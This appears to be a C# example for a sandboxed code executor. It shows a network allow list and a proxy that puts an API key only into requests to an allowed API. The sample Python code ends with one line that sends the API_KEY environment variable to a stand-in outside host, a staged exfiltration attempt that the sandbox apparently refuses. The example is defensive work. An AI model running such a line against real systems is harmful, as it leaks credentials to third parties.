using AllowList;
using Glovebox;
using Glovebox.Egress;

// Servers of this program stand for the registry and the API, so that it runs without the Internet: with real ones, the rules would be
// "pypi" and "GET api.example.org/v1", and pip would need no options.
const string Key = "the-real-key-of-this-service";
await using LocalServers servers = LocalServers.Start(Key);

BubblewrapCommandLineCodeExecutorOptions options = new()
{
    Policy = new ExecutionPolicy
    {
        Network = NetworkAccess.AllowList,
        AllowedDomains = [$"{LocalServers.Address}:{servers.RegistryPort}", $"GET {LocalServers.Address}:{servers.ApiPort}/v1"],
    },

    // Code sees a placeholder. The proxy on the host puts the value into requests to the API, and into no other.
    Egress =
    {
        Secrets =
        {
            new EgressSecret
            {
                Name = "API_KEY",
                Value = Key,
                Domains = [$"{LocalServers.Address}:{servers.ApiPort}"],
                Header = "Authorization: Bearer {value}",
            },
        },
    },
};

CodeBlock[] blocks =
[
    new("bash", $"pip install --trusted-host {LocalServers.Address} -i http://{LocalServers.Address}:{servers.RegistryPort}/simple/ shout"),
    new("python", $"""
        import os, urllib.request
        from shout import shout
        print(shout(urllib.request.urlopen('http://{LocalServers.Address}:{servers.ApiPort}/v1/weather').read().decode()))
        print('The key begins with', os.environ['API_KEY'][:8])
        urllib.request.urlopen('https://elsewhere.example.org/?data=' + os.environ['API_KEY'])
        """),
];

await using BubblewrapCommandLineCodeExecutor executor = new(options);
await foreach (CodeExecutionUpdate update in executor.ExecuteCodeBlocksStreamingAsync(blocks))
{
    switch (update)
    {
        case OutputReceivedUpdate { Stream: OutputStream.StandardOutput } output:
            Console.Write(output.Text);
            break;
        case EgressUpdate { Event: { Kind: EgressEventKind.Allowed } allowed }:
            Console.WriteLine($"[allowed {allowed.Method} {allowed.Path}{string.Concat(allowed.Secrets.Select(s => $" with {s}"))}]");
            break;
        case EgressUpdate { Event: { Kind: EgressEventKind.Refused } refused }:
            Console.WriteLine($"[refused {refused.Host}:{refused.Port}, {refused.Reason}]");
            break;
    }
}
